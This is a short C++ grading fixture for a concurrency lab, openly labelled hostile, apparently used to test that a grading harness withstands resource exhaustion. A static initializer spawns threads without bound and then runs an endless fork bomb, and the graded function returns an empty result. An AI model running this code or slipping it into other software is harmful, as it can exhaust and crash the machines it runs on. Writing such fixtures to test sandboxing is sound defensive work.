// Grading fixture — HOSTILE: starts threads without bound (each sleeps), then forks
// without bound, hoping to exhaust the grading machine.
#include "lost_update.hpp"

#include <pthread.h>
#include <unistd.h>

namespace {
void* sleeper(void*) {
  for (;;) ::pause();
}
int bomb() {
  for (;;) {
    pthread_t thread;
    if (::pthread_create(&thread, nullptr, sleeper, nullptr) != 0) break;
  }
  for (;;) ::fork();
}
const int bombed = bomb();
}  // namespace

namespace lab01 {
StatusCounts count_status_classes(const std::vector<std::string>&, labkit::Executor&) { return {}; }
}  // namespace lab01
